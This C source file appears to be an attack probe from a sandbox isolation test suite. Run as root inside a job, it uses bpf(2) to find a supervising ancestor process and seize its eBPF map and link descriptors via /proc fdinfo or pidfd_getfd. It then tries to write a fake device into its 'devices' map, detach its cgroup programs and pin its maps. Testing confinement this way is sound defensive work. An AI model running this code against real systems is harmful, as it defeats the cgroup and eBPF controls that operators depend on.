/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * bpf(2) as root of the job can call it.
 *
 *   bpf load          a program that does nothing; it is never attached
 *   bpf look          the ids of what is loaded, and a table of its own
 *   bpf HOW NAME      what belongs to the ancestor whose executable ends in NAME:
 *       take          descriptors of its tables, by their ids
 *       getfd         the same out of the process itself
 *       update        writes to its table `devices`, of a device that there is not
 *       detach        takes one of its programs off its cgroup
 *       id            the id of a table, to somebody who pins it
 *   bpf pin ID PATH   a name for a table
 *   bpf open PATH     a descriptor of a table by its name
 */
#include "attack.h"

#include <dirent.h>
#include <linux/bpf.h>
#include <sys/syscall.h>

static int call(enum bpf_cmd command, union bpf_attr *attributes)
{
	return (int)syscall(SYS_bpf, command, attributes, sizeof(*attributes));
}

static int run_load(void)
{
	struct bpf_insn instructions[] = {
		{ .code = BPF_ALU64 | BPF_MOV | BPF_K },
		{ .code = BPF_JMP | BPF_EXIT },
	};
	union bpf_attr a = { .prog_type = BPF_PROG_TYPE_SOCKET_FILTER,
			     .insn_cnt = 2,
			     .insns = (__u64)instructions,
			     .license = (__u64) "GPL" };

	if (call(BPF_PROG_LOAD, &a) < 0)
		refused("BPF_PROG_LOAD");
	puts("loaded");
	return EXIT_SENT;
}

static int run_look(void)
{
	union bpf_attr next = {}, map = { .map_type = BPF_MAP_TYPE_ARRAY, .key_size = 4, .value_size = 4, .max_entries = 1 };

	if (call(BPF_PROG_GET_NEXT_ID, &next) < 0 || call(BPF_MAP_CREATE, &map) < 0)
		refused("bpf");
	puts("looked");
	return EXIT_SENT;
}

static int ancestor(const char *name)
{
	for (int pid = getppid(); pid > 1;) {
		char path[64], exe[512] = "", line[512];

		snprintf(path, sizeof(path), "/proc/%d/exe", pid);
		ssize_t n = readlink(path, exe, sizeof(exe) - 1);

		if (n >= (ssize_t)strlen(name) && !strcmp(exe + n - strlen(name), name))
			return pid;
		snprintf(path, sizeof(path), "/proc/%d/status", pid);
		FILE *status = fopen(path, "r");

		pid = 0;
		while (status && fgets(line, sizeof(line), status))
			sscanf(line, "PPid: %d", &pid);
		if (status)
			fclose(status);
	}
	return 0;
}

static int of_id(enum bpf_cmd command, unsigned int id)
{
	union bpf_attr a = { .map_id = id };

	return call(command, &a);
}

static int take(unsigned int id, int fd, int pid)
{
	(void)fd, (void)pid;
	return of_id(BPF_MAP_GET_FD_BY_ID, id) >= 0;
}

static int getfd(unsigned int id, int fd, int pid)
{
	int process = (int)syscall(SYS_pidfd_open, pid, 0);

	(void)id;
	return process >= 0 && syscall(SYS_pidfd_getfd, process, fd, 0) >= 0;
}

static int update(unsigned int id, int fd, int pid)
{
	unsigned int key = 0xfffffff0, value = 0;
	struct bpf_map_info info = {};
	union bpf_attr about = { .info = { .bpf_fd = (__u32)of_id(BPF_MAP_GET_FD_BY_ID, id),
					   .info_len = sizeof(info),
					   .info = (__u64)&info } };
	union bpf_attr a = { .map_fd = about.info.bpf_fd, .key = (__u64)&key, .value = (__u64)&value };

	(void)fd, (void)pid;
	if (call(BPF_OBJ_GET_INFO_BY_FD, &about) || strcmp(info.name, "devices"))
		return 0;
	return !call(BPF_MAP_UPDATE_ELEM, &a);
}

static int detach(unsigned int id, int fd, int pid)
{
	union bpf_attr a = { .link_detach = { .link_fd = (__u32)of_id(BPF_LINK_GET_FD_BY_ID, id) } };

	(void)fd, (void)pid;
	return !call(BPF_LINK_DETACH, &a);
}

static int tell_id(unsigned int id, int fd, int pid)
{
	(void)fd, (void)pid;
	printf("%u\n", id);
	return 1;
}

static const struct {
	const char *name;
	const char *label;
	int (*run)(unsigned int id, int fd, int pid);
} ways[] = {
	{ "take", "map_id: %u", take },	    { "getfd", "map_id: %u", getfd },
	{ "update", "map_id: %u", update }, { "detach", "link_id: %u", detach },
	{ "id", "map_id: %u", tell_id },
};

/* Nobody else's are touched: the ids of its own stand in the agent's fdinfo. The first one will do. */
static int run_way(size_t way, const char *name)
{
	char path[512], line[256];
	int pid = ancestor(name), done = 0;

	snprintf(path, sizeof(path), "/proc/%d/fdinfo", pid);
	DIR *folder = opendir(path);

	for (struct dirent *entry; folder && !done && (entry = readdir(folder));) {
		unsigned int id = 0;

		snprintf(path, sizeof(path), "/proc/%d/fdinfo/%.32s", pid, entry->d_name);
		FILE *file = fopen(path, "r");

		while (file && fgets(line, sizeof(line), file))
			sscanf(line, ways[way].label, &id);
		if (file)
			fclose(file);
		done = id && ways[way].run(id, atoi(entry->d_name), pid);
	}
	if (ways[way].run != tell_id)
		printf("%s\n", done ? "done" : "nothing to take");
	return EXIT_SENT;
}

static int run_pin(const char *id, const char *path)
{
	union bpf_attr a = { .pathname = (__u64)path, .bpf_fd = (__u32)of_id(BPF_MAP_GET_FD_BY_ID, (unsigned int)atoi(id)) };

	if (call(BPF_OBJ_PIN, &a))
		refused("BPF_OBJ_PIN");
	return EXIT_SENT;
}

static int run_open(const char *path)
{
	union bpf_attr a = { .pathname = (__u64)path };

	if (call(BPF_OBJ_GET, &a) < 0)
		refused("BPF_OBJ_GET");
	puts("done");
	return EXIT_SENT;
}

int main(int argc, char **argv)
{
	if (argc == 2 && !strcmp(argv[1], "load"))
		return run_load();
	if (argc == 2 && !strcmp(argv[1], "look"))
		return run_look();
	if (argc == 4 && !strcmp(argv[1], "pin"))
		return run_pin(argv[2], argv[3]);
	if (argc == 3 && !strcmp(argv[1], "open"))
		return run_open(argv[2]);
	for (size_t i = 0; argc == 3 && i < sizeof(ways) / sizeof(*ways); i++) {
		if (!strcmp(argv[1], ways[i].name))
			return run_way(i, argv[2]);
	}
	usage("bpf load | bpf look | bpf take|getfd|update|detach|id NAME | bpf pin ID PATH | bpf open PATH");
}
